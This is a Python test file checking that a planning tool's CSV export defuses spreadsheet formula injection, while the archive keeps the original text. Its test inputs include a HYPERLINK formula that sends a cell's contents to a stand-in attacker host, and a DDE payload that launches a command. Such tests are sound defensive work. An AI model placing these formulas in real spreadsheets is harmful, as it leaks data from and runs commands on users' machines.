"""The plan's CSV export never hands a spreadsheet a formula; the archive keeps the words as written."""

from __future__ import annotations

import csv
import io

from reviewlab.planning import PlanningSession, plan_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tindented", "＝1+1"]


def test_plan_csv_neutralises_formula_starts_and_keeps_the_archive_as_written(archive, held, clock, themes):
    for i, text in enumerate(FORMULAS):
        archive.add_contribution("r9", "Bo", "repair_item", text, id=f"r9-f{i}")
    clock.advance(24)
    session = PlanningSession(archive, "r9", themes=themes, now=clock)
    session.plan("r9-c4", effort="M", owner="=owner()", due="2025-03-20")
    rows = list(csv.DictReader(io.StringIO(plan_csv(session.plan_frame()))))
    texts = {r["item_id"]: r["text"] for r in rows}
    assert [texts[f"r9-f{i}"] for i in range(len(FORMULAS))] == ["'" + t.strip() for t in FORMULAS[:4]] + [
        "indented", "'＝1+1"]  # a leading tab is trimmed by the model itself
    assert {r["owner"] for r in rows if r["item_id"] == "r9-c4"} == {"'=owner()"}
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert rows[0]["rank"] == "1" and rows[0]["score"][0].isdigit()  # numbers stay numbers
    assert archive.get_contribution("r9-f0").text == FORMULAS[0]
